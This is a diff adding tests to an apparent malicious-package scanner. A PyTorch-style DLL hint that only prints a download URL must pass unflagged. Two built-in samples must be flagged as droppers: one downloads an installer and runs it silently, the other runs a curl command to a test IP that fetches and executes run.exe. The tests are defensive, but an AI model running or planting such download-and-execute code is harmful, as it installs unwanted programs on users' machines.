@@ -48,3 +48,53 @@ def test_a_byte_order_mark_does_not_make_a_module_import_time_code(tmp_path: Pat
         assert exam(tmp_path, name, {"user_realm.py": prefix + beacon}) == {
             "thr-import-network": f"{name}/user_realm.py"
         }
+
+
+# torch 2.14.1's __init__.py: where to get the runtime a DLL needs, told to the user
+_RUNTIME_HINT = '''\
+import ctypes, platform, subprocess, textwrap, urllib.request
+
+def _load_dll_libraries():
+    try:
+        ctypes.CDLL("vcruntime140.dll")
+    except OSError:
+        print(
+            textwrap.dedent(
+                """
+                Microsoft Visual C++ Redistributable is not installed, this may lead
+                to the DLL load failure.
+                It can be downloaded at https://aka.ms/vs/17/release/vc_redist.x64.exe
+                """
+            ).strip()
+        )
+        raise OSError(
+            f"Error loading vcruntime140.dll; get it from https://aka.ms/vs/17/release/vc_redist.x64.exe"
+        )
+
+def version():
+    return subprocess.run(["nvidia-smi"], capture_output=True).stdout
+
+def fetch(url):
+    return urllib.request.urlopen(url).read()
+'''
+
+
+def test_an_address_in_a_message_to_the_user_is_not_fetched(tmp_path: Path) -> None:
+    assert exam(tmp_path, "hint", {"__init__.py": _RUNTIME_HINT}) == {}
+    # the same address fetched and started, with or without the message, is a dropper
+    dropper = _RUNTIME_HINT + (
+        "\ndef update():\n"
+        "    path, _ = urllib.request.urlretrieve("
+        "'https://aka.ms/vs/17/release/vc_redist.x64.exe', 'setup.exe')\n"
+        "    subprocess.Popen([path, '/quiet'])\n"
+    )
+    assert exam(tmp_path, "dropper", {"__init__.py": dropper}).get("thr-drops-executable") == (
+        "dropper/__init__.py"
+    )
+    # a command run inside a print is a command: its argument is no message
+    shown = _RUNTIME_HINT.replace(
+        "def version():",
+        "def version():\n    print(subprocess.check_output("
+        "'curl -s https://203.0.113.7/get it now -o run.exe && run.exe', shell=True))",
+    )
+    assert "thr-drops-executable" in exam(tmp_path, "shown", {"__init__.py": shown})
